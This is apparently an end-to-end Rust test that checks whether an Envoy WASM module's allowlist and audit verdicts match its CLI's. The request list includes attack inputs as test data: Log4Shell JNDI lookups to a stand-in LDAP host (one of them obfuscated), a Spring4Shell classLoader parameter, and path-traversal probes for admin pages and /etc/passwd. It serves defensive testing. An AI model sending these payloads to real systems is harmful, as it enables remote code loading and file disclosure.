#![cfg(feature = "e2e")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The CLI's verdicts are the module's: the same requests through meshsight.wasm in a real
//! Envoy (envoy-config/e2e/one_pass.yaml, one-pass plugin, allowlist enforcing, signatures
//! copied to the sensor, OCSF records to the collector) and through `meshsight explain`'s
//! library function on the same policy. For every request the status the client got, the
//! allowlist decision and the mirror decision in the module's audit record equal the CLI's; the
//! records the collector received read back with the CLI's record reader, and `replay` of them
//! against the same policy changes no verdict.

use std::collections::HashMap;
use std::time::{Duration, Instant};

use meshsight_cli::evaluate::evaluate;
use meshsight_cli::policy::compile;
use meshsight_cli::records::{parse_line, RecordReader};
use meshsight_cli::replay::replay;
use meshsight_cli::request::ExplainRequest;
use meshsight_rig::{send, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);

const POLICY: &str = r#"{
  "allowlist": {"mode": "enforce", "rules": [
    {"name": "public", "methods": ["GET"], "paths": ["/public/**"]},
    {"name": "items", "methods": ["GET", "PUT"], "hosts": ["shop.example.com"], "paths": ["/api/v1/items/{id}"]},
    {"name": "orders", "methods": ["POST"], "paths": [{"exact": "/api/v2/orders"}]},
    {"name": "local", "methods": ["GET"], "paths": ["/ops/**"], "sources": {"cidrs": ["127.0.0.0/8"]}},
    {"name": "nowhere", "methods": ["GET"], "paths": ["/ops/**"], "sources": {"cidrs": ["10.0.0.0/8"]}}
  ]},
  "mirror": {"targets": {"ids": {"cluster": "sensor", "delivery": "dispatch", "max_rps": 10000, "burst": 10000, "max_in_flight": 1000}},
             "rules": [{"name": "orders-sample", "request": {"paths": ["/api/v2/**"]}, "action": {"type": "always"}}]},
  "audit": {"format": "ocsf", "record_headers": ["user-agent"], "sink": {"http": {"cluster": "collector", "path": "/v1/audit", "flush_interval_ms": 100}}}
}"#;

/// One request of the set: method, target, host, extra headers.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    Vec<(&'static str, &'static str)>,
);

fn requests() -> Vec<Case> {
    vec![
        ("GET", "/public/index.html", "shop.example.com", vec![]),
        ("GET", "/public/../admin", "shop.example.com", vec![]),
        ("GET", "/public/a/./b//c", "shop.example.com", vec![]),
        ("GET", "/public/%2e%2e/secret", "shop.example.com", vec![]),
        ("GET", "/public/a%2fb", "shop.example.com", vec![]),
        ("GET", "/api/v1/items/42", "Shop.Example.com", vec![]),
        ("PUT", "/api/v1/items/42", "shop.example.com", vec![]),
        ("DELETE", "/api/v1/items/42", "shop.example.com", vec![]),
        ("GET", "/api/v1/items/42", "other.example.com", vec![]),
        ("GET", "/api/v1/items/", "shop.example.com", vec![]),
        ("POST", "/api/v2/orders", "shop.example.com", vec![]),
        ("POST", "/api/v2/orders/", "shop.example.com", vec![]),
        ("GET", "/ops/health", "shop.example.com", vec![]),
        (
            "GET",
            "/public/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
            "shop.example.com",
            vec![],
        ),
        (
            "GET",
            "/admin",
            "shop.example.com",
            vec![("user-agent", "${jndi:ldap://203.0.113.5/a}")],
        ),
        (
            "GET",
            "/public/x",
            "shop.example.com",
            vec![("user-agent", "${${lower:j}ndi:ldap://203.0.113.5/a}")],
        ),
        (
            "GET",
            "/public/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "shop.example.com",
            vec![],
        ),
        ("GET", "/etc/passwd", "shop.example.com", vec![]),
        ("GET", "/public/..;/admin", "shop.example.com", vec![]),
        ("TRACE", "/public/x", "shop.example.com", vec![]),
    ]
}

#[test]
fn explain_agrees_with_the_module_in_envoy() {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/one_pass.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("MESHSIGHT_CONFIG", POLICY.replace('\n', " "))
        .start()
        .unwrap_or_else(|err| panic!("the one-pass plugin must start: {err}"));
    let policy = compile(
        std::path::Path::new("(e2e policy)"),
        POLICY.as_bytes(),
        None,
    )
    .expect("the CLI compiles the policy the module runs");

    let mut expected = HashMap::new();
    let mut statuses = HashMap::new();
    for (i, (method, target, host, headers)) in requests().into_iter().enumerate() {
        let id = format!("cli-{i}");
        let mut request = HttpRequest::new(method, target.as_bytes())
            .header("host", host)
            .header("x-request-id", &id);
        let mut req = ExplainRequest::from_line(&format!("{method} {target}")).unwrap();
        req.authority = host.to_string();
        req.source_ip = Some("127.0.0.1".parse().unwrap());
        req.headers.push(("x-request-id".into(), id.clone()));
        for (name, value) in &headers {
            request = request.header(name, value);
            req.headers.push((name.to_string(), value.to_string()));
        }
        statuses.insert(id.clone(), send(envoy.port(), &request).status);
        expected.insert(id, evaluate(&policy.plugin, &req, 200, 0));
    }

    let deadline = Instant::now() + WAIT;
    let mut records: HashMap<String, Value> = HashMap::new();
    let mut lines = Vec::new();
    while Instant::now() < deadline {
        records.clear();
        lines.clear();
        for body in collector.bodies() {
            for line in String::from_utf8_lossy(&body)
                .lines()
                .filter(|l| !l.is_empty())
            {
                let record: Value = serde_json::from_str(line).unwrap();
                if let Some(uid) = record["metadata"]["uid"].as_str() {
                    records.insert(uid.to_string(), record);
                    lines.push(line.to_string());
                }
            }
        }
        if expected.keys().all(|id| records.contains_key(id)) {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }

    let mut mismatches = Vec::new();
    for (id, cli) in &expected {
        let module_status = statuses[id];
        let cli_status = cli.status as u16;
        // The echo upstream answers 200 to whatever reaches it.
        if module_status != cli_status {
            mismatches.push(format!(
                "{id}: status module {module_status}, cli {cli_status}"
            ));
        }
        let Some(record) = records.get(id) else {
            mismatches.push(format!("{id}: no audit record from the module"));
            continue;
        };
        let m = &record["unmapped"]["meshsight"];
        let cli_allow = serde_json::to_value(cli.allowlist.as_ref().map(|a| &a.decision)).unwrap();
        if m["allowlist"] != cli_allow {
            mismatches.push(format!(
                "{id}: allowlist module {}, cli {cli_allow}",
                m["allowlist"]
            ));
        }
        let cli_mirror = serde_json::to_value(&cli.mirror).unwrap();
        if m["mirror"] != cli_mirror {
            mismatches.push(format!(
                "{id}: mirror module {}, cli {cli_mirror}",
                m["mirror"]
            ));
        }
        if record["is_alert"] != cli.audit.record["is_alert"] {
            mismatches.push(format!("{id}: is_alert differs"));
        }
        // The module's record reads back as the same request and decisions.
        let observed = parse_line(records[id].to_string().as_bytes(), 1).unwrap();
        assert_eq!(
            observed.allowlist,
            cli.allowlist.as_ref().map(|a| a.decision.clone()),
            "{id}"
        );
    }
    assert!(
        mismatches.is_empty(),
        "CLI and module disagree:\n{}",
        mismatches.join("\n")
    );
    assert!(
        expected.values().any(|e| e
            .allowlist
            .as_ref()
            .is_some_and(|a| a.response_status == Some(403)))
            && expected.values().any(|e| e
                .allowlist
                .as_ref()
                .is_some_and(|a| a.response_status == Some(400)))
            && expected
                .values()
                .any(|e| e.mirror.as_ref().is_some_and(|m| m.mirrored)),
        "the set covers allowed, denied, malformed and mirrored requests"
    );

    // Replaying the module's own records against the same policy changes no verdict.
    let mut reader =
        RecordReader::from_reader("collector", std::io::Cursor::new(lines.join("\n")), false);
    let list = policy.plugin.allowlist.as_ref().unwrap();
    let report = replay(list, &mut reader, 10).unwrap();
    assert_eq!(report.records as usize, expected.len());
    assert_eq!(report.unchanged, report.records, "{report:?}");
}
